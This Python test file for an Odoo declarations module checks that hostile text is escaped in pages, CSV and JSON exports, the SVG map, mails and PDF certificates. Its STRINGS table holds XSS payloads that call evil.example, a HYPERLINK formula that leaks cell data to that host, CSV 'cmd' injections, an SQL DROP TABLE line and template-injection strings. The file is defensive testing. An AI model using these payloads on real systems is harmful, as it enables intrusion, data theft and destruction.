import csv
import io
import json
import logging
from urllib.parse import urlsplit
from xml.etree import ElementTree

from lxml.html import document_fromstring

from odoo.tests import tagged

from odoo.addons.scn_partner.free_text import one_line

from ..csv_table import BYTE_ORDER_MARK
from .public_common import PublicCase

#: What a city could write as a name, a function or a note, and why.
STRINGS = {
    'html': '<b onmouseover="x()">bold</b>',
    'script': '</script><script>fetch("https://evil.example/")</script>',
    'image': '<img src="https://evil.example/pixel.png" onerror="alert(1)">',
    'style': '"><style>@import url(https://evil.example/x.css)</style>',
    'svg': '</title><svg onload=alert(1)><image href="https://evil.example/x"/>',
    'entity': '&lt;b&gt; &amp; &#x3c;script&#x3e;',
    'cdata': ']]><!--<foo>',
    'qweb': '<t t-out="env.cr"/><t t-esc="7*7"/>',
    'inline template': '{{ object.env.cr }} {{7*7}} ${7*7} #{7*7} %(name)s %s {0}',
    'formula': '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    'plus': '+1+1',
    'minus': '-2+3+cmd|\' /C calc\'!A0',
    'at': '@SUM(1+1)*cmd|\' /C calc\'!A0',
    'full-width formula': '＝1+1',
    'quotes': '"";\'\'`\\',
    'separators': 'a;b,c\td|e',
    'sql': "'; DROP TABLE res_partner; --",
    'right to left': '\u202egnol\u202c مدينة \u2067x\u2069',
    'combining': 'Z\u0300\u0301\u0302\u0303algo',
    'emoji': '👩‍👩‍👧‍👦🏳️‍🌈',
    'look-alike': 'Ріvеrtоn',
    'control': 'a\x00b\x07c\x1b[31md\x7f',
    'lines': 'a\r\nBcc: all@example.org\n\nb',
    'long': 'W' * 150,
    'blank': ' \u00a0\u2003x\u200b',
    'address': 'javascript:alert(1)',
}

_logger = logging.getLogger(__name__)


@tagged('post_install', '-at_install')
class TestHostileText(PublicCase):
    """What a city writes is text, wherever it is read."""

    def assertLiteral(self, kept, page):
        """The page, read as a browser does, holds the text, and nothing that came out of it."""
        tree = document_fromstring(page)
        values = [(name, value) for element in tree.iter() for name, value in element.items()]
        loaded = [urlsplit(value) for name, value in values if name in ('src', 'href', 'data', 'srcset', 'action')]
        self.assertEqual([url for url in loaded if 'evil' in url.netloc or url.scheme == 'javascript'], [])
        self.assertEqual([value for name, value in values if name == 'style' and 'evil' in value], [])
        self.assertEqual(
            [value for name, value in values if name.startswith('on') and 'odooAssetError' not in value], []
        )
        inside = [element.text or '' for element in tree.iter('script', 'style')]
        self.assertEqual([text for text in inside if 'evil.example' in text or 'alert(1)' in text], [])
        texts = [tree.text_content(), *(value for __, value in values)]
        self.assertTrue(any(kept in text for text in texts), kept)

    def test_pages_csv_json_and_map(self):
        article = self.version.article_ids[:1]
        for number, (kind, text) in enumerate(STRINGS.items()):
            kept = one_line(text, 150)
            _logger.info("Hostile text: %s", kind)
            city = self.new_city(kept)
            city.write({'partner_latitude': 40.0, 'partner_longitude': 1.0})
            person = self.env['res.partner'].create(
                {'name': 'Ana', 'email': f'a{number}@x.example', 'parent_id': city.id}
            )
            signature = self.bring_to('validation', city).sudo()
            __, code = self.issue(signature, person)
            self.assertLiteral(kept, self.act(code, name=text, agrees='').text)
            done = self.act(
                code,
                name=text,
                function=text,
                publish_name='yes',
                note=text,
                article=str(article.id),
                visibility='public',
            )
            self.assertIn('Thank you', done.text)
            self.assertLiteral(kept, done.text)
            signature.invalidate_recordset()
            self.assertEqual((signature.signatory_name, signature.signatory_function), (kept, kept))
            page = self.url_open('/declaration', params={'search': kept})
            self.assertEqual(page.status_code, 200)
            self.assertLiteral(kept, page.text)
            (row,) = (
                row
                for row in json.loads(self.url_open('/declaration/register.json').text)['cities']
                if row['city'] == kept
            )
            self.assertEqual((row['signatory_name'], row['signatory_function']), (kept, kept))
            self.check_csv(kept)
            self.check_map(kept)
            city.write({'partner_latitude': 0.0, 'partner_longitude': 0.0})
            html, __ = self.env['ir.actions.report']._render_qweb_html(
                'scn_declaration.certificate_report', self.with_reference(signature).ids
            )
            self.assertLiteral(kept, html.decode())

    def check_csv(self, kept):
        text = self.url_open('/declaration/register.csv').content.decode().removeprefix(BYTE_ORDER_MARK)
        rows = list(csv.DictReader(io.StringIO(text)))
        (row,) = (row for row in rows if row['city'] in (kept, f"'{kept}"))
        for name in ('city', 'signatory_name', 'signatory_function', 'public_notes'):
            self.assertFalse(row[name].lstrip(' \u00a0').startswith(('=', '+', '-', '@', '＝', '\t', '\r')), row[name])
        self.assertEqual(None in row, False)

    def check_map(self, kept):
        answer = self.url_open('/declaration/map.svg')
        self.assertIn("default-src 'none'", answer.headers['Content-Security-Policy'])
        tree = ElementTree.fromstring(answer.text)
        self.assertEqual({element.tag.rpartition('}')[2] for element in tree.iter()}, {'svg', 'g', 'circle', 'title'})
        self.assertEqual([''.join(title.itertext()).strip() for title in tree.findall('.//{*}title')], [kept.strip()])

    def with_reference(self, signature):
        signature._ensure_certificate_reference()
        return signature

    def test_mails(self):
        signature = self.bring_to('validation').sudo()
        for text in STRINGS.values():
            kept = one_line(text, 150)
            self.mayor.name = kept
            self.riverton.name = kept
            self.issue(signature)
            mail = self.env['mail.mail'].search([], order='id desc', limit=1)
            self.assertLiteral(kept, mail.body_html)
            self.assertNotIn('\n', mail.subject, text)

    def test_control_without_escaping_it_would_be_found(self):
        with self.assertRaises(AssertionError):
            self.assertLiteral(STRINGS['script'], f"<p>{STRINGS['script']}</p>")
        with self.assertRaises(AssertionError):
            self.assertLiteral(STRINGS['image'], f"<p>{STRINGS['image']}</p>")
        with self.assertRaises(AssertionError):
            self.assertLiteral(STRINGS['html'], '<p>bold</p>')

    def test_a_pdf_of_the_worst_fetches_nothing(self):
        self.riverton.name = STRINGS['image']
        signature = self.bring_to('signed').sudo()
        signature.with_user(self.officer).write(
            {'signatory_name': STRINGS['style'], 'signatory_function': STRINGS['script']}
        )
        report = self.env['ir.actions.report'].with_context(force_report_rendering=True)
        with self.assertNoLogs('odoo.addons.base.models.ir_actions_report', level='WARNING'):
            pdf, __ = report._render_qweb_pdf('scn_declaration.certificate_report', self.with_reference(signature).ids)
        self.assertEqual(pdf[:4], b'%PDF')
